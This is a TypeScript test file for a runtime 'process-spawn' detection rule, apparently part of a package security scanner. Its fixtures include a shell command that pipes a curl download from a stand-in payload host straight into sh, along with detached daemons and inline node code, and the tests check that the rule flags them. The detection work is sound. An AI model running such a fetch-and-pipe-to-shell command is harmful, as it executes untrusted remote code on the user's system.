import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { SOURCE, runRuntimeRule } from '../../../../test/helpers/runtime.ts';
import rule from './rule.ts';

const proc = (argv: string[], extra: Record<string, unknown> = {}) => ({
  kind: 'process' as const,
  phase: 'open',
  summary: argv.join(' '),
  pid: 7,
  detail: { argv, source: SOURCE, ...extra },
});

describe('runtime/process-spawn', () => {
  it('reports a downloader and a shell piping a download', () => {
    const findings = runRuntimeRule(rule, [
      proc(['/bin/sh', '-c', 'curl -s http://payload.example.invalid/x | sh']),
      proc(['curl', '-s', 'http://payload.example.invalid/x']),
    ]);
    assert.equal(findings.length, 2);
    assert.ok(findings.every(f => f.severity === 'high'));
  });
  it('reports a daemon left running and inline node code', () => {
    const findings = runRuntimeRule(rule, [proc(['sleep', '1000'], { leftRunning: true, detached: true }), proc(['node', '-e', 'x'])]);
    assert.deepEqual(findings.map(f => f.severity).sort(), ['high', 'medium']);
  });
  it('benign: npm running a build tool', () => {
    const findings = runRuntimeRule(rule, [proc(['node', '/usr/bin/npm', 'run', 'build']), proc(['sh', '-c', 'node-gyp rebuild'])]);
    assert.equal(findings.length, 0);
  });
});
